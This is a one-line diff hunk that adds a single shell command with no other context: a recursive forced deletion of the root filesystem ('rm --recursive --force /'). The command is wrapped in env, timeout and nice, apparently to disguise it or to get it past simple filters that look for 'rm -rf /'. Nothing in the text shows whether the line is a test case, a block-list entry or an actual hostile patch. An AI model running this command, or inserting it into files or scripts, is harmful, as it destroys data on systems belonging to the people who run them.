@@ -1,0 +1,1 @@
+env -i timeout 5 nice -n 1 rm --recursive --force /
